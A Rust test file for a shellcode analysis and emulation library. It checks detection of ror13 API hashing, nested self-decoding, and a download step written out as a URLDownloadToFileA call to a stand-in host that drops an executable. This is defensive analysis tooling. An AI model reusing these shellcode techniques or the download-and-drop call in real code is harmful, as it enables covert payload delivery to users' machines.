//! Shellcode of ours, run: what it calls, decodes and makes.

mod common;

use common::{ENCODED_TWICE, STARTS_PROGRAM, STARTS_PROGRAM_WIDE, bytes};
use machine_code::analysis::{Analysis, Wanted, analyze};
use machine_code::disassembly::Walk;
use machine_code::guest;
use machine_code::session::{Asked, run};
use machine_code::view::View;

fn calls(analysis: &Analysis) -> Vec<String> {
    analysis.calls.iter().map(|call| format!("{}({})", call.name, call.arguments.join(", "))).collect()
}

fn ids(analysis: Analysis) -> Vec<String> {
    analysis.findings.into_sorted().into_iter().map(|finding| finding.id).collect()
}

#[test]
fn functions_are_found_by_their_hashes_in_both_widths() {
    for sample in [STARTS_PROGRAM, STARTS_PROGRAM_WIDE] {
        let analysis = analyze(&bytes(sample), Wanted::default());
        assert_eq!(calls(&analysis), ["WinExec(\"calc.exe\", 1)", "ExitProcess(0)"]);
        assert_eq!(analysis.end, "exited");
        let hashed = analysis.machine.as_ref().map(|machine| machine.hashed_apis.clone()).unwrap_or_default();
        let names: Vec<_> = hashed.iter().map(|api| (api.name.as_str(), api.algorithm)).collect();
        assert_eq!(names, [("WinExec", "ror13-add-library"), ("ExitProcess", "ror13-add-library")]);
        assert_eq!(ids(analysis), ["shellcode", "code-starts-programs"]);
    }
}

#[test]
fn decoders_in_decoders_are_run_and_what_they_make_is_kept() {
    let analysis = analyze(&bytes(ENCODED_TWICE), Wanted::default());
    assert_eq!(
        calls(&analysis)[1],
        r#"URLDownloadToFileA(0, "http://example.invalid/a", "C:\\Users\\Public\\inert.exe", 0, 0)"#
    );
    assert_eq!(analysis.made.len(), 1);
    assert_eq!(analysis.made[0].kind, "decoded");
    let decoded = &analysis.made[0].content;
    assert!(decoded.windows(24).any(|window| window == b"http://example.invalid/a"));
    assert_eq!(ids(analysis), ["shellcode", "self-decoding-code", "code-downloads"]);
}

#[test]
fn bytes_by_chance_are_no_code() {
    let mut state = 0x9e37_79b9_u32;
    let mut noise = Vec::new();
    for _ in 0..50_000 {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        noise.push((state >> 24) as u8);
    }
    let analysis = analyze(&noise, Wanted::default());
    assert!(analysis.machine.is_none());
    assert!(ids(analysis).is_empty());
}

#[test]
fn a_run_ends_with_its_steps() {
    // `jmp $`, and `mov ecx, -1; mov edi, 8040000h; rep stosb`.
    for (code, end) in [("ebfe", "steps"), ("b9ffffffffbf00000408f3aa", "no memory at 0x8100000")] {
        let data = bytes(code);
        let view = View::raw(&data, 32, 0x40_0000);
        let asked = Asked { address: 0x40_0000, bits: 32, steps: 2_000_000, ..Asked::default() };
        let state = run(&view, &asked).0;
        assert_eq!(state.run.end, end);
        assert!(state.run.steps <= asked.steps);
    }
}

#[test]
fn calls_without_end_use_up_the_stack_and_no_more() {
    // `call $`
    let data = bytes("e8fbffffff");
    let view = View::raw(&data, 64, 0x40_0000);
    let asked = Asked { address: 0x40_0000, bits: 64, steps: 1_000_000, ..Asked::default() };
    let end = run(&view, &asked).0.run.end;
    assert!(end.starts_with("no memory at 0x7"), "{end}");
}

/// `(import "env" "log" (func (param i32 i32))) (memory (export "memory") 1) (data (i32.const 16) "hello")`, a `_start`
/// that logs it, and a `loop` without end.
const MODULE: &str = "\
    0061736d0100000001090260027f7f00600000020b0103656e76036c6f67000003030201010503010001071a03066d656d6f\
    72790200065f73746172740001047370696e00020a120208004110410510000b070003400c000b0b0b0b010041100b056865\
    6c6c6f000d046e616d6501060100036c6f67";

#[test]
fn webassembly_is_run_with_stubs_for_what_it_imports() {
    let ran = guest::run(&bytes(MODULE), true);
    assert_eq!(ran.error, "");
    assert_eq!(ran.imports, ["env.log"]);
    assert_eq!(ran.exports, ["_start", "memory", "spin"]);
    let ends: Vec<_> = ran.runs.iter().map(|run| (run.name.as_str(), run.end.as_str())).collect();
    assert_eq!(ends, [("(start)", "returned"), ("_start", "returned"), ("spin", "fuel")]);
    assert_eq!(ran.calls.len(), 1);
    assert_eq!((ran.calls[0].name.as_str(), ran.calls[0].arguments[0].as_str()), ("env.log", "\"hello\""));
}

/// `cmp edi, 8; ja`, `between`, and a jump by a table of nine: code, where the cases begin, and what a tenth entry, which
/// the compare does not let through, leads to.
fn switch(between: &[u8]) -> (Vec<u8>, Vec<u64>, u64) {
    let cases = 25 + between.len();
    let (other, beyond) = (cases + 9, cases + 10);
    let table = beyond + 1;
    let distance = |from: usize, to: usize| i32::try_from(to as i64 - from as i64).expect("it is near").to_le_bytes();
    let mut code = vec![0x83, 0xff, 8, 0x0f, 0x87];
    code.extend(distance(9, other));
    code.extend(between);
    code.extend([0x48, 0x8d, 0x15]); // lea rdx, [rip + table]
    code.extend(distance(16 + between.len(), table));
    code.extend([0x48, 0x63, 0x04, 0xba, 0x48, 0x01, 0xd0, 0xff, 0xe0]); // movsxd rax, [rdx + rdi*4]; add; jmp rax
    code.extend([0xc3; 11]);
    (cases..other).chain([beyond]).for_each(|target| code.extend(distance(table, target)));
    (code, (cases..other).map(|case| case as u64).collect(), beyond as u64)
}

#[test]
fn a_table_of_jumps_has_as_many_entries_as_its_index_has_values() {
    // Nothing; `and dword [rsi], 1`, which bounds no index.
    for between in [&[][..], &[0x83, 0x26, 1]] {
        let (code, cases, beyond) = switch(between);
        let view = View::raw(&code, 64, 0x1000);
        let walked = Walk::new(&view).run(&[0x1000]);
        assert!(cases.iter().all(|&case| walked.begins_at(case)), "{between:x?}");
        assert!(!walked.begins_at(beyond), "{between:x?}");
    }
    // `cmp byte [rsi], 1; ja` asks for something else: then the table is read as far as it leads to code.
    let (code, cases, _) = switch(&[0x80, 0x3e, 1, 0x77, 0]);
    let view = View::raw(&code, 64, 0x1000);
    let walked = Walk::new(&view).run(&[0x1000]);
    assert!(cases.iter().all(|&case| walked.begins_at(case)));
}

#[test]
fn a_section_that_is_longer_than_the_module_is_malformed() {
    for section in ["01ffffffff0f", "00ffffffff0f", "0102", "01ff"] {
        let ran = guest::run(&bytes(&format!("0061736d01000000{section}")), true);
        assert!(ran.error.starts_with("malformed"), "{section}: {}", ran.error);
    }
    assert_eq!(guest::run(&bytes("0061736d01000000"), true).error, "");
}
